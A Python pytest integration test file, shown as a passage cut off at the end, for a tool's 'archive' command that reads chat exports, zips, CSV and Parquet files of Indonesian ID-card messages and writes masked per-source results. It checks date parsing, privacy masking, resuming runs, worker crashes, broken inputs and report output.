"""The command `archive`: many files in, a part of results for each out."""

from __future__ import annotations

import contextlib
import csv
import datetime
import errno
import io
import json
import multiprocessing
import os
import re
import signal
import subprocess
import sys
import time
import tracemalloc
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

pytest.importorskip("pyarrow", reason="needs the extra: integrations")

import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import given
from hypothesis import strategies as st

import ktpmsg
from integrations.samples import KK, KTP, MASK, NIK, SECRETS
from ktpmsg.archiving import parts, run, sources
from ktpmsg.archiving.days import Days, day_in
from ktpmsg.archiving.page import page
from ktpmsg.archiving.spreadsheet import bare, shielded
from ktpmsg.archiving.tally import Tally
from ktpmsg.terminal.command import main
from ktpmsg.terminal.parser import COMMANDS

if TYPE_CHECKING:
    from collections.abc import Callable

pytestmark = pytest.mark.integration

FAULTY = f"#SINKRONISASI#{NIK[:-1]}#{KK}#BPJS"
MENDED = KTP.removeprefix("#") + "."
CHAT = f"""\
30/08/25 18.00 - Siti: Selamat sore
30/08/25 18.01 - Siti: {KTP}
31/08/25 07.05 - Budi: {FAULTY}
[1/9/2026 08.00] Ani: {MENDED}
"""
TEXTS = [KTP, None, FAULTY, "apa kabar", MENDED]


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a chat, a zip, and two tables; the command runs beside it."""
    monkeypatch.chdir(tmp_path)
    made = tmp_path / "exports"
    made.mkdir()
    (made / "chat.txt").write_text(CHAT, "utf-8")
    with zipfile.ZipFile(made / "WhatsApp Chat with Siti.zip", "w") as zipped:
        zipped.writestr("Chat with Siti.txt", CHAT)
        zipped.writestr("IMG-0001.jpg", b"\xff\xd8")
    days = ["2026-03-01", "2026-03-02 10:00", None, "hari ini", "03/04/2026"]
    pq.write_table(pa.table({"text": TEXTS, "sent": days}), made / "rows.parquet")
    with (made / "rows.csv").open("w", encoding="utf-8-sig", newline="") as file:
        rows = csv.writer(file, delimiter=";")
        rows.writerow(["id", "text", "sent"])
        rows.writerows([1, text, day] for text, day in zip(TEXTS, days, strict=True))
    return made


def archive(*arguments: str) -> int:
    return main(["archive", *arguments, "--out", "found", "--lang", "en"])


def results(kind: str = "parquet", where: str = "exports/*") -> dict[str, list[dict[str, Any]]]:
    """The rows of each part, by the path of the source."""
    files = {run.digest_of(path): path.as_posix() for path in Path().glob(where)}
    found: dict[str, list[dict[str, Any]]] = {}
    for path in Path("found").glob(f"*.{kind}"):
        if kind == "parquet":
            rows = pq.read_table(path).to_pylist()
        elif kind == "jsonl":
            rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        else:
            with path.open(encoding="utf-8-sig", newline="") as file:
                rows = list(csv.DictReader(file))
        found[files[path.stem]] = rows
    return found


# --- what is written -----------------------------------------------------------------------------


def test_all_kinds_of_files(capsys: pytest.CaptureFixture[str]) -> None:
    assert archive("exports") == 1
    found = results()
    chat, zipped = found["exports/chat.txt"], found["exports/WhatsApp Chat with Siti.zip"]
    assert [(r["line"], r["ok"], r["codes"]) for r in chat] == [
        (2, True, []),
        (3, False, ["wrong-length"]),
        (4, True, ["keyword-spelling", "text-after"]),
    ]
    assert [r["day"] for r in chat] == [
        datetime.date(2025, 8, 30),
        datetime.date(2025, 8, 31),
        datetime.date(2026, 9, 1),
    ]
    spans = [report.span for report in ktpmsg.find(CHAT)]
    assert [(r["start"], r["end"]) for r in chat] == spans
    assert [r | {"source": ""} for r in zipped] == [r | {"source": ""} for r in chat]
    for name in ("exports/rows.parquet", "exports/rows.csv"):
        rows = found[name]
        assert [r["line"] for r in rows] == [1, 2, 3, 4, 5]
        assert [r["day"] for r in rows] == [None] * 5
        assert [r["start"] for r in rows] == [None] * 5
    assert [r["ok"] for r in found["exports/rows.parquet"]] == [True, None, False, False, True]
    assert [r["codes"] for r in found["exports/rows.csv"]][1] == ["empty"]  # a CSV has no null
    said = capsys.readouterr().out
    assert "(file 1): 3 messages: 1 good, 1 with repairs, 1 faulty\n" in said
    assert "\n15 messages: 4 good, 4 with repairs, 7 faulty\n" in said
    assert re.search(
        r"\nsources: 4, not read in full: 0; [0-9.]+ seconds, [0-9,]+ new messages a second\n", said
    )


def test_days_of_tables(capsys: pytest.CaptureFixture[str]) -> None:
    """A day that is none is told, and does not make the results any less whole."""
    assert archive("exports/rows.csv", "exports/rows.parquet", "--day-column", "sent") == 1
    wanted = [
        datetime.date(2026, 3, 1),
        datetime.date(2026, 3, 2),
        None,
        None,
        datetime.date(2026, 4, 3),
    ]
    for rows in results().values():
        assert [row["day"] for row in rows] == wanted
    assert capsys.readouterr().err == "".join(
        f"ktpmsg: exports/rows.{kind}: rows with a day that cannot be read: 1\n"
        for kind in ("csv", "parquet")
    )
    assert archive("exports/rows.csv", "exports/rows.parquet", "--day-column", "sent") == 1
    assert capsys.readouterr().out.count("was there") == 2


@pytest.mark.parametrize(
    "values",
    [
        pa.array(["2026-03-01 23:59", None]).cast(pa.timestamp("us")),
        pa.array([datetime.date(2026, 3, 1), datetime.date(1, 1, 1)]),
        # In Jakarta it is the next day already.
        pa.array([datetime.datetime(2026, 2, 28, 17, tzinfo=datetime.UTC), None]).cast(
            pa.timestamp("ms", "Asia/Jakarta")
        ),
    ],
)
def test_days_of_tables_as_dates(folder: Path, values: pa.Array) -> None:
    pq.write_table(pa.table({"text": [KTP, KTP], "sent": values}), folder / "dated.parquet")
    assert archive("exports/dated.parquet", "--day-column", "sent") == 0
    (rows,) = results().values()
    assert [row["day"] for row in rows] == [datetime.date(2026, 3, 1), None]


def test_days_of_numbers_are_none(folder: Path) -> None:
    pq.write_table(pa.table({"text": [KTP], "sent": [[1]]}), folder / "odd.parquet")
    assert archive("exports/odd.parquet", "--day-column", "sent") == 0
    assert results()["exports/odd.parquet"][0]["day"] is None


@pytest.mark.parametrize("kind", ["parquet", "jsonl", "csv"])
def test_nothing_personal_unless_asked_for(
    folder: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Neither of the messages, nor of the names of files and folders, but what the command says."""
    (folder / "Siti").mkdir()
    (folder / "Siti" / "Siti Aminah.txt").write_text(CHAT, "utf-8")
    assert archive("exports/Siti", "exports", "--as", kind, "--report", "page.html") == 1
    told = capsys.readouterr()
    files = [path for path in Path("found").rglob("*") if path.is_file()]
    text = "".join(path.name + path.read_bytes().decode("latin-1") for path in files)
    text += repr([*results(kind, "exports/**/*").values()]) + Path("page.html").read_text("utf-8")
    assert not any(secret in text for secret in (*SECRETS, "Siti", "Surodadi", "BPJS"))
    assert MASK in text
    said = told.out + told.err
    assert not any(secret in said for secret in (*SECRETS, "Surodadi", "BPJS"))
    shown = "nik,nama,text,source,office"
    assert (
        archive("exports/chat.txt", "--as", kind, "--reveal", shown, "--report", "page.html") == 1
    )
    row = results(kind, "exports/**/*")["exports/chat.txt"][0]
    assert (bare(row["nik"]), row["nama"], bare(row["text"])) == (NIK, "Siti Aminah", KTP)
    assert row["source"] == "exports/chat.txt"
    assert "<td>chat.txt</td>" in Path("page.html").read_text("utf-8")


def test_lines_of_json_and_a_table() -> None:
    archive("exports/chat.txt", "--as", "jsonl")
    lines = results("jsonl")["exports/chat.txt"]
    assert (lines[0]["day"], lines[0]["ok"], lines[1]["codes"]) == (
        "2025-08-30",
        True,
        ["wrong-length"],
    )
    archive("exports/chat.txt", "exports/rows.parquet", "--as", "csv")
    rows = results("csv")
    table = rows["exports/chat.txt"]
    assert [(r["ok"], r["codes"], r["problems"]) for r in table[1:]] == [
        ("no", "wrong-length", "nik: wrong-length"),
        ("yes", "keyword-spelling; text-after", "-: keyword-spelling; alasan: text-after"),
    ]
    assert rows["exports/rows.parquet"][1]["ok"] == ""


def test_an_office_s_formats_and_keys(folder: Path) -> None:
    Path("cek.lark").write_text(
        '%import fields (nik)\nstart: cek\ncek: "CEK"i "#" nik{"NIK"}\n', "utf-8"
    )
    Path("key").write_bytes(b"secret")
    (folder / "cek.txt").write_text(f"CEK#{NIK}\n{KTP}\n", "utf-8")
    options = ["--formats", "cek.lark", "--no-builtin", "--key-file", "key"]
    assert archive("exports/cek.txt", *options) == 0
    (row,) = results()["exports/cek.txt"]
    assert (row["kind"], row["nik"], len(row["nik_key"])) == ("cek", MASK, 64)


def test_results_are_their_owner_s() -> None:
    archive("exports")
    if os.name == "posix":
        assert {path.stat().st_mode & 0o777 for path in Path("found").glob("*.parquet")} == {0o600}


# --- what was done is not done again ---------------------------------------------------------------


def test_a_run_goes_on_where_it_was(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive("exports")
    parts_by = {path: Path("found", f"{run.digest_of(path)}.parquet") for path in folder.iterdir()}
    before = {path: part.stat().st_mtime_ns for path, part in parts_by.items()}
    capsys.readouterr()
    (folder / "chat.txt").write_text(CHAT + CHAT, "utf-8")  # it has changed
    parts_by[folder / "rows.csv"].unlink()  # its results are gone
    state = Path("found", ".ktpmsg", parts_by[folder / "rows.parquet"].name + ".json")
    state.write_text("{", "utf-8")  # nothing is known of it
    Path("found", "left-over.parquet.part").write_text("unfinished", "utf-8")
    (folder / "0 comes first.txt").write_text(KTP, "utf-8")  # it is new
    assert archive("exports") == 1
    said = capsys.readouterr()
    assert said.err == ""
    assert re.findall(r"(.*): [0-9]+ messages: .* \(was there\)", said.out) == ["(file 2)"]
    assert "exports/chat.txt: 6 messages" in said.out
    assert "exports/0 comes first.txt: 1 message: " in said.out
    same = [p for p, part in parts_by.items() if part.stat().st_mtime_ns == before[p]]
    assert same == [folder / "WhatsApp Chat with Siti.zip"]
    assert len(list(Path("found").iterdir())) == 6  # five parts, and what has to be known


@pytest.mark.parametrize("how", ["gone", "unreadable", "another kind"])
def test_results_of_other_sources_are_told(
    folder: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """They are not taken away: nobody knows whether they are wanted."""
    archive("exports")
    capsys.readouterr()
    if how == "gone":
        (folder / "rows.csv").unlink()
    elif how == "unreadable":
        (folder / "rows.csv").write_text("body\n1\n", "utf-8")
    archive("exports", "--as", "csv" if how == "another kind" else "parquet")
    count = 4 if how == "another kind" else 1
    assert capsys.readouterr().err.endswith(
        f"ktpmsg: results in the folder by another --as: {count}\n"
        if how == "another kind"
        else "ktpmsg: results in the folder of other sources, "
        f"or of some that cannot be read now: {count}\n"
    )


def test_other_options_are_other_results(capsys: pytest.CaptureFixture[str]) -> None:
    archive("exports/chat.txt")
    archive("exports/chat.txt", "--strict")
    assert "was there" not in capsys.readouterr().out
    assert [row["ok"] for row in results()["exports/chat.txt"]] == [True, False, False]


def test_results_are_no_source(capsys: pytest.CaptureFixture[str]) -> None:
    archive(".")
    archive(".", "exports/chat.txt")
    assert "\nsources: 4, not read in full: 0" in capsys.readouterr().out


def test_two_runs_at_once(capsys: pytest.CaptureFixture[str]) -> None:
    with run._alone(Path("found").absolute()):
        assert archive("exports") == 2
    assert capsys.readouterr().err == "ktpmsg: another run is writing to that folder\n"
    assert archive("exports") == 1


def test_several_processes(capsys: pytest.CaptureFixture[str]) -> None:
    archive("exports", "--report", "one.html")
    one, said = results(), capsys.readouterr().out
    for path in Path("found").glob("*.parquet"):
        path.unlink()
    assert archive("exports", "--jobs", "2", "--report", "two.html") == 1
    assert results() == one
    assert sorted(capsys.readouterr().out.splitlines()[:4]) == sorted(said.splitlines()[:4])
    assert Path("one.html").read_bytes() == Path("two.html").read_bytes()


def started(*arguments: str) -> subprocess.Popen[str]:
    """The command in a process of its own."""
    code = [sys.executable, "-m", "ktpmsg", "archive", *arguments, "--out", "found", "--lang", "en"]
    return subprocess.Popen(code, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def until(is_so: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 60
    while not is_so() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert is_so()


def workers(process: subprocess.Popen[str]) -> list[int]:
    """The processes that read, of a run with `--jobs`."""
    found = []
    for status in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parent = int(status.read_text("utf-8").rpartition(")")[2].split()[1])
            if parent == process.pid and b"spawn_main" in (status.parent / "cmdline").read_bytes():
                found.append(int(status.parent.name))
    return found


def parts_written() -> int:
    return len(list(Path("found").glob("*.parquet")))


needs_proc = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="looks into /proc")


@needs_proc
def test_a_process_that_is_killed_takes_its_own_source_with_it() -> None:
    """What the other process reads, and all that waits, is read."""
    os.mkfifo("pipe.csv")  # it is waited for
    run_ = started("pipe.csv", "exports", "--jobs", "2")
    until(lambda: parts_written() == 4)
    until(lambda: len(workers(run_)) == 1)  # the other one has nothing to do
    os.kill(workers(run_)[0], signal.SIGKILL)
    out, told = run_.communicate(timeout=60)
    assert told == "ktpmsg: pipe.csv: its process has ended (out of memory?)\n"
    assert (run_.returncode, out.count(" messages: ")) == (2, 5)


@needs_proc
def test_all_processes_killed() -> None:
    """Each is replaced while there is something to read."""
    for name in ("1.csv", "2.csv"):
        os.mkfifo(name)
    run_ = started("1.csv", "2.csv", "exports", "--jobs", "2")
    until(lambda: len(list(Path("found").glob("*.part"))) == 2)
    for one in workers(run_):
        os.kill(one, signal.SIGKILL)
    _, told = run_.communicate(timeout=60)
    assert sorted(line[:14] for line in told.splitlines()) == ["ktpmsg: 1.csv:", "ktpmsg: 2.csv:"]
    assert parts_written() == 4


@needs_proc
@pytest.mark.parametrize("sent", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT])
def test_processes_end_with_the_one_that_started_them(sent: int) -> None:
    """However it ends: nobody reads on, or keeps the output open."""
    os.mkfifo("pipe")
    run_ = started("pipe", "exports", "--jobs", "2")
    until(lambda: parts_written() == 4)
    ours = workers(run_)
    assert ours
    run_.send_signal(sent)
    _, told = run_.communicate(timeout=60)  # which waits until all have closed it
    until(lambda: not any(Path("/proc", str(one)).exists() for one in ours))
    if sent != signal.SIGKILL:
        assert (run_.returncode, told) == (130, "ktpmsg: interrupted\n")


def test_the_end_of_another_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """What a process does that has seen it: nothing measures the lines that it ends in."""
    ended: list[int] = []
    monkeypatch.setattr(os, "_exit", ended.append)
    other = multiprocessing.get_context("spawn").Process(target=print)
    other.start()
    run._end_with(other)
    assert ended == [1]


@pytest.mark.parametrize("sent", [signal.SIGINT, signal.SIGTERM])
def test_interrupted(sent: int) -> None:
    """The line and the status of Ctrl-C, what was done stays, and nothing unfinished is left."""
    os.mkfifo("pipe")  # it is waited for
    run_ = started("exports", "pipe")
    until(lambda: parts_written() == 4)
    time.sleep(0.3)
    run_.send_signal(sent)
    _, told = run_.communicate(timeout=60)
    assert (run_.returncode, told) == (130, "ktpmsg: interrupted\n")
    assert parts_written() == 4
    assert not list(Path("found").glob("*.part"))


def test_in_a_thread() -> None:
    """Only the main thread can say what a signal does."""
    with ThreadPoolExecutor(1) as threads:
        assert threads.submit(archive, "exports").result() == 1


# --- what goes wrong ---------------------------------------------------------------------------------


def test_what_cannot_be_read_is_told_and_the_rest_goes_on(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "broken.zip").write_bytes(b"PK\x03\x04nonsense")
    (folder / "broken.parquet").write_bytes(b"PAR1nonsense")
    with zipfile.ZipFile(folder / "pictures.zip", "w") as zipped:
        zipped.writestr("a.jpg", b"\xff")
    whole = (folder / "WhatsApp Chat with Siti.zip").read_bytes()
    (folder / "cut.zip").write_bytes(
        whole.replace(b"Selamat", b"\x00" * 7)
    )  # stored: its sum is wrong
    pq.write_table(pa.table({"text": [1]}), folder / "numbers.parquet")
    pq.write_table(pa.table({"body": [KTP]}), folder / "other.parquet")
    pq.write_table(pa.table({"text": [KTP * 9] * 9}), folder / "damaged.parquet")
    whole = (folder / "damaged.parquet").read_bytes()
    (folder / "damaged.parquet").write_bytes(whole[:30] + bytes(40) + whole[70:])
    (folder / "broken.csv").write_text('text\n"' + "x" * 200_000_00, "utf-8")
    (folder / "wrong.csv").write_bytes(f"text\n{KTP}\ncaf\xe9\n".encode("latin-1"))
    (folder / "wrong.txt").write_bytes(f"caf\xe9\n{KTP}\n".encode("latin-1"))
    assert archive("exports", "nowhere.txt") == 2
    told = sorted(capsys.readouterr().err.splitlines())
    assert told == [
        "ktpmsg: exports/broken.csv: a broken CSV file",
        "ktpmsg: exports/broken.parquet: a broken Parquet file",
        "ktpmsg: exports/broken.zip: a broken zip file",
        "ktpmsg: exports/cut.zip: a broken zip file",
        "ktpmsg: exports/damaged.parquet: a broken Parquet file",
        "ktpmsg: exports/numbers.parquet: the column of --column does not hold texts",
        "ktpmsg: exports/other.parquet: there is no column as --column has it",
        "ktpmsg: exports/pictures.zip: no .txt is in it",
        "ktpmsg: exports/wrong.csv: rows with a byte that is not UTF-8: 1",
        "ktpmsg: exports/wrong.txt: not UTF-8: byte 0xE9 in line 1; save it as UTF-8",
        "ktpmsg: nowhere.txt: No such file or directory",
    ]
    assert len(results()) == 6  # of those with a wrong byte, too: all the rest of them was read
    assert [row["ok"] for row in results()["exports/wrong.csv"]] == [True, False]
    assert [row["ok"] for row in results()["exports/wrong.txt"]] == [True]


def told_of(text: str, capsys: pytest.CaptureFixture[str], *options: str) -> str:
    """What is said of a CSV."""
    Path("rows.csv").write_bytes(text.encode())
    archive("rows.csv", "--reveal", "text", *options)
    return capsys.readouterr().err


def test_a_quote_that_is_not_closed(capsys: pytest.CaptureFixture[str]) -> None:
    """It takes no other row with it, wherever the next quote is; it is told, with its line."""
    head = f'id,text,place\r\n1,"{KTP}\r\n.",x\r\n'
    told = (
        "ktpmsg: rows.csv: the quote that opens in line {} is not closed: "
        "read as a character; lines like this: {}\n"
    )
    text = f'{head}2,"halo,x\r\n3,{KTP},x\r\n'
    assert told_of(text, capsys) == told.format(4, 1)
    shown = [row["text"] for row in results(where="*")["rows.csv"]]
    assert shown == [f"{KTP}\r\n.", '"halo', KTP]
    text = f'{head}2,"halo,x\n3,"ada, ""dua""",x\n\n4,{KTP},x\n5,"' + "ya\n" * 2_000
    assert told_of(text, capsys) == told.format(4, 2)
    shown = [row["text"] for row in results(where="*")["rows.csv"]]
    assert shown[1:5] == ['"halo', 'ada, "dua"', KTP, '"ya']
    assert len(shown) == 4 + 2_000


def test_rows_that_are_longer_or_shorter_than_the_header(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """What is past the header is told, empty cells aside; a cell that is not there is null."""
    text = f"id,text\n1,{KTP},\n2\n3,{KTP},lagi\n"
    assert told_of(text, capsys) == (
        "ktpmsg: rows.csv: rows with more cells than the header, which were not read: 1\n"
    )
    assert [row["ok"] for row in results(where="*")["rows.csv"]] == [True, None, True]


def test_a_column_that_is_there_twice(capsys: pytest.CaptureFixture[str]) -> None:
    text = f"text,sent,sent\n{KTP},1,2\n"
    assert told_of(text, capsys, "--day-column", "sent") == (
        "ktpmsg: rows.csv: there are 2 columns as --day-column has it\n"
    )


def test_long_rows_are_read_few_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sources, "_CHARACTERS", 100)
    Path("rows.csv").write_text("text\n" + f"{KTP}\n" * 5, "utf-8")
    assert archive("rows.csv") == 0
    assert pq.ParquetFile(next(Path("found").glob("*.parquet"))).num_row_groups == 3


def test_long_rows_of_parquet_are_read_few_at_a_time() -> None:
    """As many as fit into memory in the group of rows where they are longest."""
    table = pa.table({"text": ["ya"] * 9 + [str(at) * 1_000_000 for at in range(100, 130)]})
    pq.write_table(table, "long.parquet", row_group_size=20)
    assert archive("long.parquet") == 1
    groups = pq.ParquetFile(next(Path("found").glob("*.parquet"))).num_row_groups
    assert 5 < groups < 15


def test_a_folder_that_cannot_be_listed(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def walk(path: str, onerror: Any) -> Any:
        onerror(OSError(errno.EACCES, "Permission denied", "exports/closed"))
        yield str(path), [], ["chat.txt", "picture.jpg"]

    monkeypatch.setattr(os, "walk", walk)
    assert archive("exports") == 2
    said = capsys.readouterr()
    assert said.err == "ktpmsg: exports/closed: Permission denied\n"
    assert "exports/chat.txt: 3 messages" in said.out


def test_a_file_that_cannot_be_opened(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def refuse(*_: object) -> Any:
        raise OSError(errno.EIO, "Input/output error")
        yield

    monkeypatch.setattr(sources, "_in_stream", refuse)
    assert archive("exports/chat.txt") == 2
    assert capsys.readouterr().err == "ktpmsg: exports/chat.txt: Input/output error\n"
    assert list(Path("found").glob("*")) == [Path("found", ".ktpmsg")]


def test_an_empty_table() -> None:
    Path("empty.csv").write_text("", "utf-8")
    assert archive("empty.csv") == 0


def test_nothing_there(capsys: pytest.CaptureFixture[str]) -> None:
    Path("empty").mkdir()
    assert archive("empty") == 2
    assert capsys.readouterr().err == "ktpmsg: there is no file in it\n"


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--report", "."], "--report: cannot be written: Is a directory"),
        (["--report", "exports/../exports/chat.txt"], "--report: that file is to be read"),
        (["found"], "--out: no source may be in that folder"),
        (["--reveal", "nik,umur"], "--reveal takes nik, nomor_kk, "),
        (["--jobs", "0"], "argument --jobs takes a number, 1 or more"),
        (["--jobs", "x"], "argument --jobs takes a number, 1 or more"),
        (["--as", "xml"], "argument --as takes parquet, jsonl or csv"),
        (["--report", "nowhere/page.html"], "--report: there is no such folder"),
        (["--key-file", "nowhere"], "nowhere: No such file or directory"),
        (["--formats", "nowhere.lark"], "nowhere.lark: No such file or directory"),
        (["--no-builtin"], "--no-builtin "),
    ],
)
def test_wrong_use(arguments: list[str], told: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert archive("exports", *arguments) == 2
    assert capsys.readouterr().err.startswith(f"ktpmsg: {told}")
    assert not list(Path().glob("found/*.parquet"))


def test_the_usage_is_that_of_the_command(capsys: pytest.CaptureFixture[str]) -> None:
    archive("exports", "--no-builtin")
    assert "usage: ktpmsg archive " in capsys.readouterr().err


def test_in_indonesian(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The words of the system, too, and the mark for thousands."""
    (folder / "many.txt").write_text(f"{FAULTY}\n" * 1_001, "utf-8")
    main(["archive", "exports/many.txt", "nowhere.txt", "--out", "found", "--lang", "id"])
    said = capsys.readouterr()
    assert said.err == "ktpmsg: nowhere.txt: tidak ada\n"
    assert re.search(r"^ +1\.001  ", said.out, re.MULTILINE)


def test_a_pipe_in_a_folder(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It may never end: one that is named itself is read."""
    os.mkfifo(folder / "pipe.txt")
    assert archive("exports") == 2
    assert capsys.readouterr().err == "ktpmsg: exports/pipe.txt: not a regular file\n"


def test_zips_with_a_password_and_of_macos(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with zipfile.ZipFile(folder / "mac.zip", "w") as zipped:
        zipped.writestr("chat.txt", KTP)
        zipped.writestr("__MACOSX/._chat.txt", b"\x00\x05\x16\x07")
    whole = bytearray((folder / "mac.zip").read_bytes())
    whole[whole.index(b"PK\x01\x02") + 8] |= 1  # said to be encrypted
    (folder / "locked.zip").write_bytes(whole)
    assert archive("exports/mac.zip", "exports/locked.zip") == 2
    assert capsys.readouterr().err == "ktpmsg: exports/locked.zip: a zip file with a password\n"
    assert len(results()["exports/mac.zip"]) == 1


@pytest.mark.parametrize("left", [0, 100])
def test_results_that_were_cut_are_made_again(left: int) -> None:
    archive("exports/chat.txt")
    (part,) = Path("found").glob("*.parquet")
    part.write_bytes(part.read_bytes()[:left])
    archive("exports/chat.txt")
    assert len(results()["exports/chat.txt"]) == 3


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_full_disk_ends_the_run(folder: Path, jobs: str) -> None:
    """It is no fault of a source, and the rest would not fit either."""
    (folder / "long.txt").write_text(f"{KTP}\n" * 3_000, "utf-8")
    (folder / "more.txt").write_text(f"{KTP}\n" * 3_000, "utf-8")
    script = (
        # More than what the coverage of each process takes, and less than what each result does.
        "import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (600_000,) * 2);"
        "from ktpmsg.terminal.command import main; sys.exit(main(sys.argv[1:]))"
    )
    files = ["exports/long.txt", "exports/more.txt", "--out", "found", "--lang", "en"]
    done = subprocess.run(
        [sys.executable, "-c", script, "archive", *files, "--as", "jsonl", "--jobs", jobs],
        check=False,
        capture_output=True,
        text=True,
    )
    assert done.stderr == "ktpmsg: --out: cannot be written: File too large\n"
    assert done.returncode == 2
    assert [path.name for path in Path("found").iterdir()] == [".ktpmsg"]


def test_the_line_end_of_a_key_file_is_no_part_of_the_key() -> None:
    found = []
    for content in (b"secret", b"secret\n", b"secret\r\n"):
        Path("key").write_bytes(content)
        archive("exports/chat.txt", "--key-file", "key")
        found.append(results()["exports/chat.txt"][0]["nik_key"])
    assert len(set(found)) == 1


def test_examples_of_the_help_are_right(folder: Path) -> None:
    """What the help shows can be typed as it stands."""
    folder.joinpath("WhatsApp Chat with Siti.zip").rename("magelang.zip")
    folder.joinpath("rows.parquet").rename("dump.parquet")
    Path("dumps").mkdir()
    pq.write_table(pa.table({"body": TEXTS}), "dumps/a.parquet")
    (own,) = (command for command in COMMANDS if command.name == "archive")
    for example in own.examples:
        assert main(example.split()[1:]) == 1
    assert Path("page.html").exists()


def test_an_empty_key(capsys: pytest.CaptureFixture[str]) -> None:
    Path("key").write_bytes(b"")
    assert archive("exports", "--key-file", "key") == 2
    assert capsys.readouterr().err.startswith("ktpmsg: key is empty")


def test_results_that_cannot_be_written(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("found").write_text("a file", "utf-8")
    assert archive("exports") == 2
    assert capsys.readouterr().err == "ktpmsg: --out: cannot be written: File exists\n"
    Path("found").unlink()
    Path("found").mkdir()

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setitem(parts.FORMATS, "jsonl", lambda *_: (full, None))
    assert archive("exports", "--as", "jsonl") == 2
    assert capsys.readouterr().err == "ktpmsg: --out: cannot be written: No space left on device\n"
    assert not [path for path in Path("found").iterdir() if path.name != ".ktpmsg"]


def test_a_page_that_cannot_be_written(capsys: pytest.CaptureFixture[str]) -> None:
    Path("page.html.part").mkdir()
    assert archive("exports", "--report", "page.html") == 2
    assert capsys.readouterr().err == "ktpmsg: --report: cannot be written: Is a directory\n"
    assert len(list(Path("found").glob("*.parquet"))) == 4


def test_without_pyarrow(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "ktpmsg.terminal.archiving", None)
    assert archive("exports") == 2
    assert capsys.readouterr().err == (
        "ktpmsg: the command archive needs pyarrow: pip install 'ktpmsg[arrow]'\n"
    )


# --- what is shown -----------------------------------------------------------------------------------


def test_rows_for_programs(capsys: pytest.CaptureFixture[str]) -> None:
    assert archive("exports/chat.txt", "nowhere.txt", "--json") == 2
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    there = run.digest_of(Path("exports/chat.txt"))
    counts = {"good": 1, "mended": 1, "faulty": 1}
    assert rows[0] == {
        "source": "exports/chat.txt",
        "results": there,
        **counts,
        "failed": False,
        "notes": [],
    }
    assert [(row["results"], row["good"], row["failed"], row["notes"]) for row in rows[1:-1]] == [
        (None, 0, True, ["No such file or directory"])
    ]
    last = rows[-1]
    assert last | counts | {"sources": 2, "failed": 1} == last
    assert last["codes"]["wrong-length"] == 1
    archive("exports/chat.txt", "--json", "--reveal", "source")
    assert json.loads(capsys.readouterr().out.splitlines()[0])["results"] == there


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_bar_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", shown := Terminal())
    assert archive("exports", "nowhere.txt") == 2
    assert "ktpmsg" in shown.getvalue()
    assert "nowhere.txt: No such file or directory" in shown.getvalue()
    for path in Path("found").glob("*.parquet"):
        path.unlink()
    monkeypatch.setitem(sys.modules, "rich.console", None)
    monkeypatch.setattr(sys, "stdout", lines := io.StringIO())
    assert archive("exports") == 1
    assert "exports/chat.txt: 3 messages" in lines.getvalue()


def test_the_page() -> None:
    today = datetime.date(2026, 11, 26)
    assert "Pesan warga" in page({}, today)
    tally = Tally()
    for day, kind, verdict, count in (
        ("2026-01-05", "ktp", "good", 5),
        ("2026-01-05", "ktp", "faulty", 2),
        ("2026-01-08", "sinkronisasi", "mended", 1),
        ("", "", "faulty", 3),
    ):
        tally.verdicts[day, kind, verdict] += count
    tally.codes["wrong-length"] = 2
    shown = page({"<kantor>": tally}, today)
    assert shown.count("<g>") == 4  # the days between are there, too
    assert "&lt;kantor&gt;" in shown
    assert "<kantor>" not in shown
    assert "Without a date: 3 messages." in shown
    assert "<code>wrong-length</code>" in shown
    assert "http" not in shown
    assert Tally.of_json(json.loads(json.dumps(tally.to_json()))) == tally
    other = Tally()
    other.verdicts["2024-01-05", "ktp", "good"] += 1
    other.codes["empty"] = 1
    shown = page({"a": tally, "b": other}, today)
    assert "<title>2026-01: 5 baik" in shown
    assert "<td>b</td><td>empty (1)</td>" in shown
    other.verdicts["1995-01-05", "ktp", "good"] += 1
    assert "<title>2026: 5 baik" in page({"a": tally, "b": other}, today)


# --- days, cells, memory -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "day"),
    [
        ("30/08/25 18.00 - Siti: ", (2025, 8, 30)),
        ("8/30/25, 6:00 PM - Siti: ", (2025, 8, 30)),
        ("[30.08.2025, 18.00] Siti: ", (2025, 8, 30)),
        ("2023-12-20 10:00 - Siti: ", (2023, 12, 20)),
